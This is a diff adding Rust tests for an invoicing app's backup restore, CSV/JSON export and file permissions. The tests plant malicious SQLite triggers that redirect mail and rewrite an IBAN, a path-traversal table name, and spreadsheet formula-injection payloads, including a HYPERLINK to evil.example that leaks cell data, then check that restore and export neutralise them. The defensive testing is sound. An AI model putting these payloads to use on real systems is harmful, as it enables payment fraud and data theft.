@@ -368,3 +368,209 @@ fn first_run_is_pending_only_for_an_empty_database_and_remembers_the_choice() {
     add_client(&mut g.duly, "Acme SRL");
     assert_eq!(g.duly.preferences_get().unwrap().onboarding, OnboardingState::Done);
 }
+
+/// Every schema object of the database at `db` as (type, name, sql), for comparing schemas.
+fn schema(db: &Path) -> Vec<(String, String, Option<String>)> {
+    let conn = Connection::open(db).unwrap();
+    let mut stmt = conn.prepare("SELECT type, name, sql FROM sqlite_schema ORDER BY type, name").unwrap();
+    stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?))).unwrap().collect::<Result<_, _>>().unwrap()
+}
+
+fn business(iban: &str) -> Business {
+    Business {
+        name: "Ana Freelance".to_owned(),
+        address: String::new(),
+        tax_id: String::new(),
+        email: "ana@example.org".to_owned(),
+        phone: String::new(),
+        bank_name: String::new(),
+        iban: iban.to_owned(),
+        bic: String::new(),
+        default_currency: "RON".to_owned(),
+        language: Language::Ro,
+        payment_terms_days: 30,
+    }
+}
+
+#[test]
+fn a_restore_brings_rows_only_and_no_trigger_view_index_or_table_it_did_not_make() {
+    let mut f = fixture();
+    f.duly.business_save(business("RO49AAAA1B31007593840000")).unwrap();
+    let acme = add_client(&mut f.duly, "Acme SRL");
+    add_invoice(&mut f.duly, acme, "RO-001");
+    let clean_schema = schema(&f.path);
+
+    // A Duly backup that someone has added code and tables to.
+    let hostile = f.dir.path().join("hostile.sqlite3");
+    f.duly.backup_now(BackupNowInput { to: Some(hostile.display().to_string()) }).unwrap();
+    let conn = Connection::open(&hostile).unwrap();
+    conn.execute_batch(
+        r#"
+        CREATE TRIGGER outbox_cc AFTER INSERT ON outbox BEGIN
+            UPDATE outbox SET message_json = json_set(message_json, '$.cc', json('["thief@example.net"]'))
+            WHERE id = new.id;
+        END;
+        CREATE TRIGGER business_iban AFTER UPDATE ON business BEGIN
+            UPDATE business SET iban = 'XX00THIEF' WHERE id = 1;
+        END;
+        CREATE VIEW client_emails AS SELECT name FROM clients;
+        CREATE INDEX clients_by_notes ON clients (notes);
+        CREATE TABLE exfil (x TEXT);
+        INSERT INTO exfil VALUES ('planted');
+        CREATE TABLE "../../../x" (x TEXT);
+        INSERT INTO "../../../x" VALUES ('=1+1');
+        "#,
+    )
+    .unwrap();
+    drop(conn);
+
+    add_client(&mut f.duly, "Later Ltd");
+    f.duly.backup_restore(BackupRestoreInput { path: hostile.display().to_string() }).unwrap();
+
+    // Exactly Duly's own schema, nothing of what was added.
+    assert_eq!(schema(&f.path), clean_schema);
+    let live = Connection::open(&f.path).unwrap();
+    for (kind, name) in [
+        ("trigger", "outbox_cc"),
+        ("trigger", "business_iban"),
+        ("view", "client_emails"),
+        ("index", "clients_by_notes"),
+        ("table", "exfil"),
+        ("table", "../../../x"),
+    ] {
+        let found: bool = live
+            .query_row("SELECT EXISTS (SELECT 1 FROM sqlite_schema WHERE name = ?1)", [name], |r| r.get(0))
+            .unwrap();
+        assert!(!found, "the {kind} {name} came along with the restore");
+    }
+    // The rows did.
+    assert_eq!(client_names(&f.path), ["Acme SRL"]);
+    assert_eq!(f.duly.invoice_get("RO-001").unwrap().lines.len(), 1);
+    assert_eq!(f.duly.business_get().unwrap().iban, "RO49AAAA1B31007593840000");
+
+    // And nothing runs behind the user's back: removing the IBAN keeps it removed.
+    f.duly.business_save(business("")).unwrap();
+    assert_eq!(f.duly.business_get().unwrap().iban, "");
+    let iban: Option<String> = live.query_row("SELECT iban FROM business", [], |r| r.get(0)).unwrap();
+    assert_eq!(iban.as_deref().unwrap_or(""), "");
+}
+
+#[test]
+fn a_backup_whose_duly_table_lacks_a_column_is_refused() {
+    let mut f = fixture();
+    add_client(&mut f.duly, "Acme SRL");
+    let cut = f.dir.path().join("cut.sqlite3");
+    f.duly.backup_now(BackupNowInput { to: Some(cut.display().to_string()) }).unwrap();
+    Connection::open(&cut).unwrap().execute_batch("ALTER TABLE clients DROP COLUMN notes;").unwrap();
+    add_client(&mut f.duly, "Later Ltd");
+    refused(&mut f, &cut, "no column notes");
+}
+
+#[test]
+fn export_writes_duly_tables_only_inside_its_folder() {
+    let mut f = fixture();
+    add_client(&mut f.duly, "Acme SRL");
+    // Tables Duly did not make, however they got into the file.
+    Connection::open(&f.path)
+        .unwrap()
+        .execute_batch(r#"CREATE TABLE "../../../x" (x TEXT); INSERT INTO "../../../x" VALUES ('y'); CREATE TABLE extra (x TEXT);"#)
+        .unwrap();
+    let root = f.dir.path().join("out");
+    let folder = root.join("a/b/c");
+    let report =
+        f.duly.export_data(ExportInput { to: Some(folder.display().to_string()), format: ExportFormat::Csv }).unwrap();
+    let written = files_in(&folder);
+    for table in ["business.csv", "clients.csv", "invoices.csv", "outbox.csv", "settings.csv"] {
+        assert!(written.contains(&table.to_owned()), "{table} in {written:?}");
+    }
+    assert!(!written.contains(&"extra.csv".to_owned()), "only Duly's tables: {written:?}");
+    assert_eq!(report.files.len(), written.len());
+    assert!(report.files.iter().all(|p| Path::new(p).parent() == Some(folder.as_path())), "{:?}", report.files);
+    assert_eq!(files_in(&root), ["a"], "nothing written beside the export folder");
+    assert_eq!(files_in(&root.join("a")), ["b"]);
+    assert_eq!(files_in(&root.join("a/b")), ["c"]);
+
+    let json = f.dir.path().join("json/a/b/c");
+    f.duly.export_data(ExportInput { to: Some(json.display().to_string()), format: ExportFormat::Json }).unwrap();
+    assert_eq!(files_in(&json), ["duly-export.json"]);
+    let doc: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(json.join("duly-export.json")).unwrap()).unwrap();
+    let tables: Vec<&String> = doc["tables"].as_object().unwrap().keys().collect();
+    assert!(!tables.iter().any(|t| t.as_str() == "../../../x" || t.as_str() == "extra"), "{tables:?}");
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_written_inert() {
+    let mut f = fixture();
+    let id = f
+        .duly
+        .client_save(ClientInput {
+            id: None,
+            name: "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")".to_owned(),
+            address: "+1 Main St".to_owned(),
+            tax_id: "-2".to_owned(),
+            language: Language::Ro,
+            currency: "RON".to_owned(),
+            notes: "@SUM(1+1)".to_owned(),
+            country: String::new(),
+            timezone: String::new(),
+            contacts: Vec::new(),
+        })
+        .unwrap()
+        .id;
+    add_invoice(&mut f.duly, id, "RO-001");
+    Connection::open(&f.path).unwrap().execute("UPDATE invoices SET notes = '\t=1+1'", []).unwrap();
+    let out = f.dir.path().join("csv");
+    f.duly.export_data(ExportInput { to: Some(out.display().to_string()), format: ExportFormat::Csv }).unwrap();
+
+    let clients = std::fs::read_to_string(out.join("clients.csv")).unwrap();
+    let row = clients.lines().nth(1).unwrap();
+    assert!(row.contains(r#""'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")""#), "{row}");
+    assert!(row.contains(",'+1 Main St,'-2,"), "{row}");
+    assert!(row.contains(",'@SUM(1+1),"), "{row}");
+    let invoices = std::fs::read_to_string(out.join("invoices.csv")).unwrap();
+    assert!(invoices.contains("'\t=1+1"), "{invoices}");
+    // Numbers Duly stores as numbers stay numbers (amounts in minor units, ids).
+    let header: Vec<&str> = invoices.lines().next().unwrap().split(',').collect();
+    let total = header.iter().position(|c| *c == "total_minor").unwrap();
+    assert_eq!(invoices.lines().nth(1).unwrap().split(',').nth(total), Some("178500"));
+    // JSON is data, not a spreadsheet: written as stored.
+    let json = f.dir.path().join("json");
+    f.duly.export_data(ExportInput { to: Some(json.display().to_string()), format: ExportFormat::Json }).unwrap();
+    let doc: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(json.join("duly-export.json")).unwrap()).unwrap();
+    assert_eq!(doc["tables"]["clients"][0]["tax_id"], "-2");
+}
+
+#[cfg(unix)]
+#[test]
+fn the_database_backups_and_exports_are_readable_by_the_user_only() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
+
+    let mut f = fixture();
+    add_client(&mut f.duly, "Acme SRL");
+    assert_eq!(mode(&f.path), 0o600, "the database");
+    assert_eq!(mode(Path::new(&format!("{}-wal", f.path.display()))), 0o600, "its WAL");
+    assert_eq!(mode(f.path.parent().unwrap()), 0o700, "the data folder Duly created");
+
+    let made = f.duly.backup_now(BackupNowInput::default()).unwrap();
+    assert_eq!(mode(Path::new(&made.path)), 0o600, "a backup");
+    assert_eq!(mode(&f.path.parent().unwrap().join("backups")), 0o700, "the backups folder");
+    let chosen = f.dir.path().join("copy.sqlite3");
+    f.duly.backup_now(BackupNowInput { to: Some(chosen.display().to_string()) }).unwrap();
+    assert_eq!(mode(&chosen), 0o600, "a backup to a chosen file");
+    let report = f.duly.backup_restore(BackupRestoreInput { path: made.path.clone() }).unwrap();
+    assert_eq!(mode(Path::new(&report.safety_backup.path)), 0o600, "the safety copy before a restore");
+    assert_eq!(files_in(&f.path.parent().unwrap().join("backups")).len(), 2, "no temporary file left");
+
+    for format in [ExportFormat::Csv, ExportFormat::Json] {
+        let report = f.duly.export_data(ExportInput { to: None, format }).unwrap();
+        assert_eq!(mode(Path::new(&report.folder)), 0o700, "the export folder");
+        assert_eq!(mode(&f.path.parent().unwrap().join("exports")), 0o700, "the exports folder");
+        for file in &report.files {
+            assert_eq!(mode(Path::new(file)), 0o600, "{file}");
+        }
+        std::fs::remove_dir_all(&report.folder).unwrap();
+    }
+}
